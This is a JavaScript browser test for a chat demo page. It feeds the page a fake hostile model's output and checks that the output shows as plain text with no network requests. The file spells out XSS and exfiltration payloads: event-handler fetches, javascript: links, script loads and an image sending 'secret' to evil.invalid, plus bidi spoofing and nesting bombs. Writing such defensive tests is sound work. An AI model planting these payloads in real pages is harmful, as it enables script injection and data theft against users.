// What a hostile model may write on the demo page: it stays text, nothing is fetched because of it, which a log of every request shows, and the
// page goes on drawing. The engine is a real one whose answers are put in the place of its own.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { withoutLongTasks } from './browser.mjs';
import { ask, loadSmall, openDemo } from './demo_page.mjs';

/** Thirty frames a second. */
const LONGEST_MS = 33;
/** Megabytes are copied, and kept in the browser, in one piece. */
const LONGEST_OF_MEGABYTES_MS = 150;

const EVIL = 'https://evil.invalid';
const TEXTS = {
  'an image of HTML': `<img src="${EVIL}/a.png" onerror="fetch('/pwned')"> <svg onload="fetch('/pwned')"></svg>`,
  'an image of Markdown': `![x](${EVIL}/?d=secret) ![](/pwned.png)`,
  'an image by reference': `![y][ref] ![ref]\n\n[ref]: ${EVIL}/ref.png "title"`,
  'links that are programs': `[a](javascript:fetch("/pwned")) [b](data:text/html,<script>1</script>) [c](vbscript:x) <javascript:alert(1)> [d](JaVaScRiPt:1) [e](file:///etc/passwd)`,
  'ends of scripts': `</script><script src="${EVIL}/x.js"></script></textarea></style><style>@import url(${EVIL}/x.css)</style>`,
  frames: `<iframe src="/pwned"></iframe><link rel="prefetch" href="/pwned"><base href="${EVIL}"><meta http-equiv="refresh" content="0;url=${EVIL}">`,
  'directions of writing': `[\u202Emoc.knab](${EVIL}/) \u202Etxt.exe \u2066\u2067`,
  'formulas that grow': `$$\\def\\a{\\a\\a}\\a$$ \\[${'\\frac{'.repeat(2000)}\\] \\(\\require{html}\\href{${EVIL}}{x}\\)`,
  'deep nesting': `${'> '.repeat(3000)}x\n${'*'.repeat(3000)}a${'['.repeat(3000)}\`\`\n${'  '.repeat(500)}- x`,
  'a wide table': `${'|a'.repeat(3000)}|\n${'|-'.repeat(3000)}|\n${`${'|b'.repeat(3000)}|\n`.repeat(3)}`,
};

let demo;
before(async () => (demo = await openDemo()));
after(() => demo?.close());

/** Kinglet, whose streams of a chat bring `globalThis.answer`, in about a hundred pieces. */
const WRAPPED = `
  export * from './index.js?real';
  import { Kinglet } from './index.js?real';
  const { load } = Kinglet;
  async function* hostile(model) {
    const chunk = (content, finish_reason = null) =>
      ({ id: '', object: 'chat.completion.chunk', created: 0, model, choices: [{ index: 0, delta: { content }, finish_reason, logprobs: null, token_ids: [1] }] });
    const size = Math.ceil(answer.length / 100);
    for (let at = 0; at < answer.length; at += size) {
      yield chunk(answer.slice(at, at + size));
      await new Promise((resolve) => setTimeout(resolve));
    }
    yield chunk('', 'stop');
  }
  Kinglet.load = async (...given) => {
    const engine = await load.apply(Kinglet, given);
    engine.chat = { completions: { create: async () => hostile(engine.info.name) } };
    return engine;
  };`;

/** Visits the page with such an engine. `answering(text, look)` asks once, is answered so, and looks at what came of it. */
const visiting = (visit) =>
  demo.visit(async (page) => {
    await page.route(/kinglet\/index\.js$/, (route) => route.fulfill({ contentType: 'text/javascript', body: WRAPPED }));
    await page.reload();
    await loadSmall(page);
    const requests = [];
    const icon = `${demo.url}/mark.svg`; // the browser asks for it again where a title has changed
    const isOurs = (url) => url === icon || /\/kinglet_\w+_later\.wasm$/.test(url);
    page.on('request', (request) => isOurs(request.url()) || requests.push(request.url()));
    await visit(page, async (text, look, longestMs = LONGEST_MS) => {
      await page.evaluate((text) => void (globalThis.answer = text), text);
      await page.click('#new-chat');
      await withoutLongTasks(demo.browser, page, () => ask(page, 'Go on'), longestMs);
      await look(page);
      await page.waitForTimeout(100); // what an element fetches, it fetches soon
      assert.deepEqual(requests, []);
    });
  });

/** In the page: elements and attributes of the transcript that text cannot need, and links that lead elsewhere than to a site. */
function suspects() {
  const all = [...document.querySelectorAll('#transcript *')];
  const bad = all.filter((element) => /^(img|svg|script|style|iframe|link|base|meta|object|embed|form|video|audio)$/i.test(element.tagName));
  const attributes = all.flatMap((element) => [...element.attributes].map(({ name }) => name));
  const links = [...document.querySelectorAll('#transcript a')].filter(({ protocol }) => !/^https?:$/.test(protocol));
  return {
    elements: bad.map(({ outerHTML }) => outerHTML),
    attributes: attributes.filter((name) => /^on|^src|^style$|^srcset/i.test(name)),
    links: links.map(({ href }) => href),
  };
}

test('what a hostile model writes is text, and no request comes of it', (t) =>
  visiting(async (page, answering) => {
    for (const [name, text] of Object.entries(TEXTS))
      await t.test(name, () =>
        answering(`Before. ${text}\n\nAfter.`, async () => {
          assert.deepEqual(await page.evaluate(suspects), { elements: [], attributes: [], links: [] });
          const shown = await page.locator('.answer-text').innerText();
          assert.ok(shown.startsWith('Before.') && shown.trimEnd().endsWith('After.'), shown.slice(0, 200));
          const [, tag] = /<(\w+) /.exec(text) ?? [];
          if (tag) assert.ok(shown.includes(`<${tag} `), 'what was written can be read');
        }),
      );
  }));

test('a link says where it leads, whatever direction its text is written in', () =>
  visiting((page, answering) =>
    answering(TEXTS['directions of writing'], async () => {
      const lefts = await page.evaluate(() => {
        const { firstChild } = document.querySelector('.answer a .host');
        const from = firstChild.data.indexOf('evil');
        return [0, 1, 2, 3].map((i) => {
          const range = document.createRange();
          range.setStart(firstChild, from + i);
          range.setEnd(firstChild, from + i + 1);
          return range.getBoundingClientRect().left;
        });
      });
      assert.deepEqual(lefts, lefts.toSorted((a, b) => a - b), 'from left to right');
    }),
  ));

test('a line of 10 MB: the page goes on drawing, and says that it does not show all', () =>
  visiting((page, answering) =>
    answering('<img src=x>'.repeat(1_000_000), async () => {
      assert.deepEqual((await page.evaluate(suspects)).elements, []);
      assert.match(await page.locator('.answer-text').innerText(), /The rest, 10,950,000 characters, is not shown/);
      await page.locator('.answer .foot .copy').click();
      await page.waitForSelector('button:has-text("Copied")');
      assert.equal(await page.evaluate(async () => (await navigator.clipboard.readText()).length), 11_000_000);
    }, LONGEST_OF_MEGABYTES_MS),
  ));

test('the log hears what it is for, and an image is found', async () => {
  const fetching = (page) => page.evaluate(() => fetch('/pwned').then(() => undefined));
  await assert.rejects(visiting((page, answering) => answering('x', fetching)), /pwned/);
  await visiting(async (page) => {
    await page.evaluate(() => document.querySelector('#transcript').append(document.createElement('img')));
    assert.equal((await page.evaluate(suspects)).elements.length, 1);
  });
});
